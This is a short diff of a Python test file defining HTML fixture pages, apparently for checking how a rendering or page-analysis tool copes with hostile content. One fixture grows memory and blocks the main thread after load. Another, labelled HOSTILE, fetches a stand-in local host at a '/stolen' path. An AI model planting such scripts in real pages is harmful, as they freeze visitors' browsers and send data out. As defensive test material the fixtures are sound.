@@ -41,7 +41,8 @@ LEAK = f"""{HEAD}{VIEWPORT}<style>
 button:focus-visible {{ outline: none; box-shadow: 0 0 0 4px #c00; }} .well:focus-visible {{ outline: 3px solid #c00; }}
 </style></head><body><main><h1>Page</h1><button type="button">Shadow</button> <button type="button" class="well">Line</button>
 <script>const kept = []; setInterval(() => {{ kept.push(new Array(20_000).fill(kept.length)); }}, 10);
-const until = performance.now() + 800; while (performance.now() < until) {{ kept.length = 0; }}</script></main></body></html>"""
+const block = () => {{ const until = performance.now() + 800; while (performance.now() < until) {{ kept.length = 0; }} }};
+addEventListener("load", () => setTimeout(block, 50));</script></main></body></html>"""
 HOSTILE = f"""{HEAD}{VIEWPORT}</head><body><main><h1>Page</h1><script>
 const other = "http://127.0.0.1:OTHER";
 fetch(other + "/stolen").catch(() => {{}});
